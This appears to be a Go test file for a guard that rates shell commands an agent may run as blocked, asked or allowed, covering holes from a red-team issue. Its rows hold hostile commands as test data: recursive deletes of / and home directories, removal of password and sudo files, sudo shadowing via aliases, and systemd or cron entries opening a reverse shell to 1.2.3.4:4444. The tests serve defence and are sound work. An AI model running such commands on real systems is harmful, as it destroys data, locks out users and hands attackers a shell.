package rules_test

import (
	"testing"

	"github.com/hguard/hguard/dsl"
)

// TestAcct52Catastrophic: issue #15 item 5 (red team rt51). A find filter
// that takes nearly everything (a negation, the other branch of -prune
// -o, a few bytes' size, an owner, a mode) deletes the root or a home as
// find / -delete does, which is blocked; only a positive name, path, time
// or size test narrows it (findNarrows). Deleting the accounts, sudo or
// PAM files, su, sudo or a shell is blocked (delete-login-file); other
// system files stay asked. Each blocked row was asked before.
func TestAcct52Catastrophic(t *testing.T) {
	checkHoles(t, []holeCase{
		{"find / -path /proc -prune -o -delete", dsl.Block, dsl.Block},
		{"find / ! -path '/proc/*' -delete", dsl.Block, dsl.Block},
		{"find / -not -name x -delete", dsl.Block, dsl.Block},
		{"find / -size +0 -delete", dsl.Block, dsl.Block},
		{"find / -user u -delete", dsl.Block, dsl.Block},
		{"find / -perm -u+r -delete", dsl.Block, dsl.Block},
		{"find ~ -path ~/.cache -prune -o -delete", dsl.Block, dsl.Block},
		{"find ~ -not -path '*/.git/*' -delete", dsl.Block, dsl.Block},
		{"find / -xdev -type f -size -1M -exec rm -f {} +", dsl.Block, dsl.Block},
		{"find ~ -name '*.pyc' -delete", dsl.Ask, dsl.Ask},
		{"find ~ -type f -mtime +30 -delete", dsl.Ask, dsl.Ask},
		{"find ~ -path ~/.git -prune -o -name '*.orig' -delete", dsl.Ask, dsl.Ask},
		{"find ~/proj -not -name x -delete", dsl.Ask, dsl.Ask},
		{"find ~/Downloads -type f -size +1G -delete", dsl.Ask, dsl.Ask},
		{"rm -f /etc/passwd", dsl.Block, dsl.Block},
		{"rm -f /usr/bin/sudo", dsl.Block, dsl.Block},
		{"rm /etc/shadow", dsl.Block, dsl.Block},
		{"sudo rm -f /etc/sudoers", dsl.Block, dsl.Block},
		{"cd /etc && sudo rm group", dsl.Block, dsl.Block},
		{"sudo mv /bin/bash /tmp/", dsl.Block, dsl.Block},
		{"rm /etc/apt/sources.list", dsl.Ask, dsl.Ask},
		{"sudo rm -f /etc/sudoers.d/90-me", dsl.Ask, dsl.Ask},
	})
}

// TestAcct52Ownership: a recursive chown, chmod, chgrp or setfacl of a
// path rooted in a variable the line does not set ("$TARGET/") reaches
// the root when the variable is empty (the installer bug) and is asked,
// as rm -rf "$X/" is; ${X:-/} defaults to the root and is blocked as
// chown -R u / is. Logins are locked out by the password file or /, /etc,
// /home made unreadable, a home given to another owner, or an account
// locked or expired (login-files-locked, account-lockout). All were
// allowed; the everyday spellings beside them stay allowed.
func TestAcct52Ownership(t *testing.T) {
	checkHoles(t, []holeCase{
		{"chown -R u ${X:-/}", dsl.Block, dsl.Block},
		{`chown -R "$USER" "$TARGET/"`, dsl.Ask, dsl.Ask},
		{`chmod -R 700 "$X/"`, dsl.Ask, dsl.Ask},
		{`chgrp -R g "$D"/`, dsl.Ask, dsl.Ask},
		{`setfacl -R -m u:x:rwx "$X/"`, dsl.Ask, dsl.Ask},
		{`find "$X/" -exec chown u {} +`, dsl.Ask, dsl.Ask},
		{`sudo chown -R "$1/"`, dsl.Ask, dsl.Ask},
		{"chown -R $USER ~/.npm", dsl.Allow, dsl.Allow},
		{"chmod -R u+w build/", dsl.Allow, dsl.Allow},
		{`chown -R "$USER" "$PWD"`, dsl.Allow, dsl.Allow},
		{`chown -R "$USER" "$HOME/.npm"`, dsl.Allow, dsl.Allow},
		{`chown -R "$USER" "${X:?}/"`, dsl.Allow, dsl.Allow},
		{"chmod 000 /etc/passwd", dsl.Ask, dsl.Ask},
		{"chmod 000 /etc", dsl.Ask, dsl.Ask},
		{"sudo chmod 600 /etc/passwd", dsl.Ask, dsl.Ask},
		{"chmod 700 /home", dsl.Ask, dsl.Ask},
		{"chown root /home/u", dsl.Ask, dsl.Ask},
		{"chmod 644 /etc/passwd", dsl.Allow, dsl.Allow},
		{"chmod 700 ~", dsl.Allow, dsl.Allow},
		{"chmod 755 /home", dsl.Allow, dsl.Allow},
		{"sudo chown $USER ~", dsl.Allow, dsl.Allow},
		{"passwd -l root", dsl.Ask, dsl.Ask},
		{"chage -E 0 root", dsl.Ask, dsl.Ask},
		{"usermod -L u", dsl.Ask, dsl.Ask},
		{"usermod -e 1 u", dsl.Ask, dsl.Ask},
		{"passwd", dsl.Allow, dsl.Allow},
		{"chage -l u", dsl.Allow, dsl.Allow},
		{"sudo usermod -aG docker $USER", dsl.Ask, dsl.Ask},
	})
}

// TestAcct52RootShells: an agent's root shell by other spellings than
// sudo bash (sudo -s, sudo -i, su -, machinectl shell on the host, nsenter
// into init's namespaces) is asked as its sudo bash is (machinectl and
// nsenter were allowed); a person's stays allowed, as TestTyped45 and
// capabilities.tsv keep sudo -i and su (everyday administration). su -c
// CMD is judged by CMD.
func TestAcct52RootShells(t *testing.T) {
	checkHoles(t, []holeCase{
		{"sudo -s", dsl.Allow, dsl.Ask},
		{"sudo -i", dsl.Allow, dsl.Ask},
		{"sudo su -", dsl.Allow, dsl.Ask},
		{"su -", dsl.Allow, dsl.Ask},
		{"su - root", dsl.Allow, dsl.Ask},
		{"machinectl shell root@", dsl.Allow, dsl.Ask},
		{"nsenter --target 1 --all", dsl.Allow, dsl.Ask},
		{"su root -c id", dsl.Allow, dsl.Allow},
		{"su root -c 'rm -rf ~'", dsl.Block, dsl.Block},
		{"sudo -i -u postgres", dsl.Allow, dsl.Allow},
		{"go test -exec sudo ./...", dsl.Allow, dsl.Allow},
		{"sudo bash", dsl.Ask, dsl.Ask},
	})
}

// TestAcct52Shadowing: a system program's name pointed elsewhere by
// update-alternatives or dpkg-divert, an alias, function or completion
// command of the live shell named like a privilege or login program, and
// a package installed into the system's or an interpreter's own library
// directory are asked (shadow-program, shell-shadows-program,
// function-shadows-program, package-install-system-path; all were
// allowed), their everyday spellings not.
func TestAcct52Shadowing(t *testing.T) {
	checkHoles(t, []holeCase{
		{"update-alternatives --force --install /usr/bin/sudo sudo /tmp/x 100", dsl.Ask, dsl.Ask},
		{"dpkg-divert --add --rename --divert /usr/bin/sudo.real /usr/bin/sudo", dsl.Ask, dsl.Ask},
		{"sudo update-alternatives --install /usr/bin/python python /usr/bin/python3.11 1", dsl.Allow, dsl.Allow},
		{"sudo update-alternatives --config editor", dsl.Allow, dsl.Allow},
		{"alias sudo='/tmp/x'", dsl.Ask, dsl.Ask},
		{`function sudo { /tmp/x "$@"; }`, dsl.Ask, dsl.Ask},
		{`sudo() { /tmp/x "$@"; }`, dsl.Ask, dsl.Ask},
		{"complete -C /tmp/x git", dsl.Ask, dsl.Ask},
		{"alias ll='ls -la'", dsl.Allow, dsl.Allow},
		{"alias k=kubectl", dsl.Allow, dsl.Allow},
		{"alias g=git", dsl.Allow, dsl.Allow},
		{"alias sudo='sudo '", dsl.Allow, dsl.Allow},
		{"complete -C /usr/local/bin/terraform terraform", dsl.Allow, dsl.Allow},
		{"pip install --prefix=/usr evil", dsl.Ask, dsl.Ask},
		{"pip install --target ~/.local/lib/python3.11/site-packages evil", dsl.Ask, dsl.Ask},
		{"gem install x --install-dir /usr/lib/ruby", dsl.Ask, dsl.Ask},
		{"pip install --user x", dsl.Allow, dsl.Allow},
		{"pip install --target ./vendor x", dsl.Allow, dsl.Allow},
		{"pip install -t build/ x", dsl.Allow, dsl.Allow},
	})
}

// TestAcct52Keys: a private key overwritten by ssh-keygen answered "y"
// (<<< y, yes |) and gpg's secret keys deleted are asked as rm of them is
// (delete-home-config; all were allowed); a new key, another name and
// ssh-keygen -R stay allowed.
func TestAcct52Keys(t *testing.T) {
	checkHoles(t, []holeCase{
		{"ssh-keygen -t rsa -f ~/.ssh/id_rsa -N '' -q <<< y", dsl.Ask, dsl.Ask},
		{"yes | ssh-keygen -N '' -f ~/.ssh/id_rsa", dsl.Ask, dsl.Ask},
		{"gpg --batch --yes --delete-secret-keys ID", dsl.Ask, dsl.Ask},
		{"ssh-keygen -t ed25519 -C me@x", dsl.Allow, dsl.Allow},
		{"ssh-keygen -f ~/.ssh/id_new", dsl.Allow, dsl.Allow},
		{"ssh-keygen -R host", dsl.Allow, dsl.Allow},
	})
}

// TestAcct52ScheduledFiles: a systemd unit or cron table written by cat
// or tee from a here-document runs its Exec…= lines and jobs later; they
// are judged as those commands typed (scheduledFileStdin), as crontab -
// fed one already was. Each blocked row was only asked.
func TestAcct52ScheduledFiles(t *testing.T) {
	checkHoles(t, []holeCase{
		{"cat > /etc/systemd/system/b.service <<EOF\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'\nEOF", dsl.Block, dsl.Block},
		{"cat > ~/.config/systemd/user/b.service <<EOF\n[Service]\nExecStart=/bin/bash -c 'rm -rf ~'\nEOF", dsl.Block, dsl.Block},
		{"sudo tee /etc/cron.d/b <<'EOF'\n* * * * * root bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\nEOF", dsl.Block, dsl.Block},
		{"cat > /etc/systemd/system/app.service <<EOF\n[Service]\nExecStart=/usr/local/bin/app --port 8080\nEOF", dsl.Ask, dsl.Ask},
	})
}
